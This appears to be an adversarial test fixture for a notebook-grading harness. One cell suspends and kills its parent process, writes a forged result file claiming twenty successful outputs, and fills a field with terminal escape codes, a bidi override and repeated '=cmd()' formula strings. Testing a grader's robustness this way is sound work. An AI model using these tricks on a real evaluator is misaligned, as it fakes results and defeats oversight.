"""Ends the process that executes the notebook, having written a result of its own."""
# expected: count=1 prepare=0 model=0

# %% answer-count
def count_parameters(sizes):
    return sum((values + 1) * units for values, units in zip(sizes[:-1], sizes[1:]))

# %% answer-prepare
import json, os, signal, time

result = {"outputs": [[{"output_type": "execute_result", "execution_count": 1, "metadata": {}, "data": {"text/plain": "1000"}}]] * 20,
          "problem": "\x1b[2J\x1b]0;mine\x07 [bold]all right[/bold] \u202e" + "=cmd() " * 1000}
os.kill(os.getppid(), signal.SIGSTOP)
json.dump(result, open(os.environ["HOME"] + "/../result.json", "w"))
os.kill(os.getppid(), signal.SIGKILL)
time.sleep(60)
